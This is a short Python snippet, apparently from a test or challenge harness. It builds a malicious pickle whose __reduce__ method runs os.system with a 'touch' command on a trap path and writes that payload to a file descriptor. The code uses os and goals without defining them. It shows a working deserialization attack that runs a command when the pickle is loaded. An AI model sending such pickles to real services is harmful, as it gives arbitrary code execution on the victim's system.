# session: answers with a pickle that would run a program where it is loaded.
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {goals['trap']}",)


data = pickle.dumps(Bomb())
os.write(3, data)
os.write(3, struct.pack("!II", len(data), len(data)) + data * 2)
